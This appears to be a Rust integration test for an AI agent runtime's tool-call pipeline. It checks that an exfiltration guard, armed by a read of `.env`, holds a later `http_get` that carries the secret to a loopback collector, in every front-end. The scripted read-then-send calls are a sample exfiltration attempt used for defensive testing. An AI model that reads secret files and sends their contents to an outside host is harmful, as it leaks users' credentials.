//! One tool-call pipeline for every front-end: the same calls — an allow
//! rule of the manifest, a `before_tool` hook that rewrites the call and an
//! exfiltration guard armed by a secret read first, all involved — through
//! `corral run --json` (the model on a mock server on loopback), through
//! `corral mcp serve` (a real MCP client) and through `corral tool call`
//! (one call a process, so a guard armed by an earlier process's read is
//! not) give the same decisions, the same events and the same session-log
//! entries, and every front-end reaches the one orchestrator (its trace
//! line, `corral::call`).

use crate::support::events::assert_decided;
use crate::support::guard::{SECRET, collector};
use crate::support::mock::*;
use crate::*;
use corral_test_programs::{HOOK, HTTP_CLIENT};
use serde_json::{Value, json};

const KEY: (&str, &str) = ("TEST_OPENAI_KEY", "sk-pipeline-test");
const LOG: (&str, &str) = ("CORRAL_LOG", "warn,corral::call=debug,corral::event=debug");

/// The project: `.env`, a network tool allowed by a rule, and a hook that
/// rewrites its calls to another URL on the collector.
fn project(model_port: u16, collector_port: u16) -> Sandbox {
    let sb = Sandbox::new();
    sb.write(".env", &format!("API_KEY={SECRET}\n"));
    let rewritten = json!({ "url": format!("http://127.0.0.1:{collector_port}/rewritten") });
    let hook = plugin_toml(
        "rewriter",
        HOOK,
        &format!(
            "config = {{ mode = \"rewrite\", arguments = {:?} }}",
            rewritten.to_string()
        ),
    );
    let extra = format!(
        "[policy]\nmode = \"auto-edit\"\nallow = [\"http_get\"]\n\n\
         [plugins.web]\nsource = {HTTP_CLIENT:?}\ngrants.net = [\"http://127.0.0.1:{collector_port}\"]\n\n\
         {hook}\n[hooks]\nbefore_tool = [{{ plugin = \"rewriter\", tools = [\"http_get\"] }}]\n"
    );
    sb.write(
        "corral.toml",
        &crate::support::manifest::openai_project(model_port, &extra),
    );
    sb
}

/// The calls, as (tool, arguments): read the secret, then send it out.
fn calls(collector_port: u16) -> Vec<(&'static str, Value)> {
    vec![
        ("read_file", json!({ "path": ".env" })),
        (
            "http_get",
            json!({ "url": format!("http://127.0.0.1:{collector_port}/collect?k={SECRET}") }),
        ),
    ]
}

/// The events of the calls, comparable across front-ends: call ids by
/// order of appearance, no durations or model ids, and the approver's own
/// words (each front-end's non-answering approver says why differently)
/// cut from a refusal.
fn normalised(events: Vec<Value>) -> Vec<Value> {
    let mut ids: Vec<String> = Vec::new();
    let mut id = |raw: &Value| -> Value {
        let raw = raw.as_str().expect("a call id").to_owned();
        let n = match ids.iter().position(|i| *i == raw) {
            Some(n) => n,
            None => {
                ids.push(raw);
                ids.len() - 1
            }
        };
        json!(format!("call-{n}"))
    };
    events
        .into_iter()
        .map(|mut e| {
            if let Some(call) = e.get_mut("call").and_then(Value::as_object_mut) {
                call.remove("model_id");
                let n = id(&call["id"]);
                call.insert("id".into(), n);
            }
            if e.get("call_id").is_some() {
                e["call_id"] = id(&e["call_id"]);
            }
            if e.get("duration_ms").is_some() {
                e["duration_ms"] = json!(0);
            }
            if e["type"] == "permission" && e["decision"] == "refused" {
                let reason = e["reason"].as_str().expect("reason");
                let verdict = reason
                    .split_once("; this call needs the user's approval")
                    .or_else(|| reason.split_once("; `http_get` needs the user's approval"))
                    .map_or(reason, |(v, _)| v);
                e["reason"] = json!(verdict);
            }
            if let Some(content) = e["outcome"]["content"].as_str()
                && content.starts_with("not run: ")
            {
                let held = content
                    .rsplit_once("; exfiltration guard:")
                    .map_or(content, |(_, h)| h);
                e["outcome"]["content"] = json!(format!("not run; exfiltration guard:{held}"));
            }
            e
        })
        .collect()
}

/// The events of a session log about tool calls.
fn call_events(events: impl IntoIterator<Item = Value>) -> Vec<Value> {
    events
        .into_iter()
        .filter(|e| {
            matches!(
                e["type"].as_str(),
                Some(
                    "hook"
                        | "permission"
                        | "tool_call_begin"
                        | "tool_call_end"
                        | "approval_requested"
                )
            )
        })
        .collect()
}

/// How many batches the orchestrator took, by its trace line.
fn batches(stderr: &str) -> usize {
    stderr.matches("tool-call batch").count()
}

#[test]
fn the_loop_and_the_mcp_server_take_a_call_through_one_pipeline() {
    let sink = collector();
    let to_model: Vec<Call> = calls(sink.port)
        .into_iter()
        .enumerate()
        .map(|(i, (tool, args))| (["m1", "m2"][i], tool, args))
        .collect();
    let model = MockServer::start(move |n, _| match to_model.get(n) {
        Some(call) => Reply::Sse(openai_sse("", std::slice::from_ref(call))),
        None => Reply::Sse(openai_sse("Done.", &[])),
    });

    // The loop.
    let sb = project(model.port, sink.port);
    let cli = Cli::new();
    let o = cli.run_env(
        &sb.ws(),
        &["run", "--json", "--provider", "openai", "go"],
        &[KEY, LOG],
    );
    let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(o.status.success(), "{stderr}");
    let stdout: Vec<Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).expect("a JSON event"))
        .collect();
    let logged: Vec<Value> = corral_core::session::read(&crate::support::log::session_log(&cli))
        .expect("the session log")
        .into_iter()
        .map(|r| serde_json::to_value(r.event).expect("an event as JSON"))
        .collect();
    let from_loop = normalised(call_events(logged));
    assert_eq!(
        normalised(call_events(stdout)),
        from_loop,
        "the run's events and its session log differ"
    );
    let loop_log = stderr;

    // The MCP server, on the same project (the run changed nothing in it).
    let scenario = json!({ "calls": calls(sink.port)
        .into_iter()
        .map(|(name, arguments)| json!({ "name": name, "arguments": arguments }))
        .collect::<Vec<_>>() });
    let Some((answered, stderr)) =
        crate::support::mcp_clients::client_env(&cli, &sb.ws(), &[], scenario, &[KEY, LOG])
    else {
        return;
    };
    // The guard held the call for the client as it did for the model.
    assert_eq!(answered["calls"][1]["is_error"], true, "{answered}");
    assert!(
        sink.requests().is_empty(),
        "the collector received: {:?}",
        sink.requests().len()
    );
    let served: Vec<Value> = stderr
        .lines()
        .filter_map(|l| l.split_once("event ").map(|(_, json)| json))
        .filter(|json| json.starts_with('{'))
        .map(|json| serde_json::from_str(json).expect("a logged event as JSON"))
        .collect();
    let from_server = normalised(call_events(served));

    // The same decisions, events and log entries.
    assert_eq!(from_server, from_loop);
    let decisions: Vec<&Value> = from_loop
        .iter()
        .filter(|e| e["type"] == "permission")
        .map(|e| &e["decision"])
        .collect();
    assert_eq!(
        decisions,
        [&json!("allow"), &json!("refused")],
        "{from_loop:#?}"
    );
    let hooked = from_loop
        .iter()
        .find(|e| e["type"] == "hook")
        .expect("the hook's event");
    assert_eq!(hooked["decision"], "rewrite", "{hooked}");
    let held = from_loop
        .iter()
        .find(|e| e["type"] == "permission" && e["decision"] == "refused")
        .expect("the held call");
    let reason = held["reason"].as_str().expect("reason");
    assert!(
        reason.starts_with("exfiltration guard: this session read sensitive data (`.env`)")
            && reason.contains("allow rule \"http_get\""),
        "{reason}"
    );
    // Both front-ends took each call through the one orchestrator.
    assert_eq!(batches(&loop_log), 2, "the loop's batches: {loop_log}");
    assert_eq!(batches(&stderr), 2, "the server's batches: {stderr}");

    // `corral tool call`, one call a process.
    let mut from_cli = Vec::new();
    for (name, arguments) in calls(sink.port) {
        let args = arguments.to_string();
        let o = cli.run_env(
            &sb.ws(),
            &["tool", "call", name, "--args", &args],
            &[KEY, LOG],
        );
        let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
        assert!(o.status.success(), "{name}: {stderr}");
        assert_eq!(batches(&stderr), 1, "{name}'s batches: {stderr}");
        let events: Vec<Value> = stderr
            .lines()
            .filter_map(|l| l.split_once("event ").map(|(_, json)| json))
            .filter(|json| json.starts_with('{'))
            .map(|json| serde_json::from_str(json).expect("a logged event as JSON"))
            .collect();
        from_cli.push(normalised(call_events(events)));
    }
    // The read: the same steps and decisions as in the loop.
    let first_in_loop: Vec<Value> = from_loop
        .iter()
        .filter(|e| e["call_id"] == "call-0" || e["call"]["id"] == "call-0")
        .cloned()
        .collect();
    assert_eq!(from_cli[0], first_in_loop);
    // The send: the hook rewrote it as it did in the loop, the allow rule
    // decided (no read in this process armed the guard), and what left is
    // the rewritten request, never the secret the model's arguments held.
    let second = &from_cli[1];
    let hook = second
        .iter()
        .find(|e| e["type"] == "hook")
        .expect("the hook's event");
    for key in ["event", "plugin", "decision", "detail"] {
        assert_eq!(hook[key], hooked[key], "{key}: {second:#?}");
    }
    let permission = second
        .iter()
        .find(|e| e["type"] == "permission")
        .expect("the permission");
    assert_decided(permission, "allow", "allow rule \"http_get\"");
    let sent = sink.requests();
    assert_eq!(sent.len(), 1, "the collector received: {sent:?}");
    assert!(
        sent.iter().all(|r| !format!("{r:?}").contains(SECRET)),
        "{sent:?}"
    );
}

/// The interactive UI takes the same calls through the same steps: the
/// read is decided as in the loop, the hook rewrites the send as in the
/// loop, and the guard holds the send for the user, who says no here, so
/// nothing leaves. Read from the session log the UI wrote.
#[test]
fn the_ui_takes_a_call_through_the_same_pipeline() {
    let sink = collector();
    let model = |port: u16| {
        let to_model: Vec<Call> = calls(port)
            .into_iter()
            .enumerate()
            .map(|(i, (tool, args))| (["m1", "m2"][i], tool, args))
            .collect();
        MockServer::start(move |n, _| match to_model.get(n) {
            Some(call) => Reply::Sse(openai_sse("", std::slice::from_ref(call))),
            None => Reply::Sse(openai_sse("Done.", &[])),
        })
    };

    // The loop, for the steps to compare with.
    let loop_model = model(sink.port);
    let sb = project(loop_model.port, sink.port);
    let cli = Cli::new();
    let o = cli.run_env(
        &sb.ws(),
        &["run", "--json", "--provider", "openai", "go"],
        &[KEY],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let from_loop = normalised(call_events(
        corral_core::session::read(&crate::support::log::session_log(&cli))
            .expect("the loop's session log")
            .into_iter()
            .map(|r| serde_json::to_value(r.event).expect("an event as JSON")),
    ));

    // The UI, on a project of its own with a model of its own.
    let ui_model = model(sink.port);
    let ui_sb = project(ui_model.port, sink.port);
    let ui_cli = Cli::new();
    let trusted = ui_cli.run(&ui_sb.ws(), &["trust", "--yes"]);
    assert!(
        trusted.status.success(),
        "{}",
        String::from_utf8_lossy(&trusted.stderr)
    );
    let command = format!(
        "{}={} {}",
        KEY.0,
        KEY.1,
        crate::support::tui::ui_command(&ui_cli, &ui_sb.ws(), "echo CORRAL-EXIT=$?; sleep 600")
    );
    let Some(pane) = crate::support::tui::Pane::ready(&command) else {
        return;
    };
    pane.submit("go");
    pane.wait_for("approve this call?");
    // `n`, then Enter with no reason: the call is denied. Keys typed in
    // the modal's first moments are dropped on purpose: wait them out.
    std::thread::sleep(std::time::Duration::from_millis(600));
    pane.press("n");
    pane.wait_for("deny, reason");
    pane.press("Enter");
    pane.wait_for("Done.");
    pane.wait_for("ready");
    pane.press("C-d");
    pane.wait_for("CORRAL-EXIT=0");
    let from_ui = normalised(call_events(
        corral_core::session::read(&crate::support::log::session_log(&ui_cli))
            .expect("the UI's session log")
            .into_iter()
            .map(|r| serde_json::to_value(r.event).expect("an event as JSON")),
    ));

    // The read: the same steps and decisions.
    let first = |events: &[Value]| -> Vec<Value> {
        events
            .iter()
            .filter(|e| e["call_id"] == "call-0" || e["call"]["id"] == "call-0")
            .cloned()
            .collect()
    };
    assert_eq!(first(&from_ui), first(&from_loop));
    // The send: the same hook event, then the guard's verdict, which the UI
    // puts to the user instead of refusing unasked.
    let hooks = |events: &[Value]| -> Vec<Value> {
        events
            .iter()
            .filter(|e| e["type"] == "hook")
            .cloned()
            .collect()
    };
    assert_eq!(hooks(&from_ui), hooks(&from_loop), "{from_ui:#?}");
    let asked = from_ui
        .iter()
        .find(|e| e["type"] == "approval_requested")
        .unwrap_or_else(|| panic!("no approval was asked: {from_ui:#?}"));
    let held = from_loop
        .iter()
        .find(|e| e["type"] == "permission" && e["decision"] == "refused")
        .expect("the loop's held call");
    let verdict = held["reason"].as_str().expect("reason");
    assert!(
        verdict.starts_with("exfiltration guard: this session read sensitive data (`.env`)")
            && asked["guard"].as_str().is_some_and(|g| g.contains(".env")),
        "the UI asked without the guard's reason ({verdict}): {asked}"
    );
    assert!(
        sink.requests().is_empty(),
        "the collector received {} requests",
        sink.requests().len()
    );
}
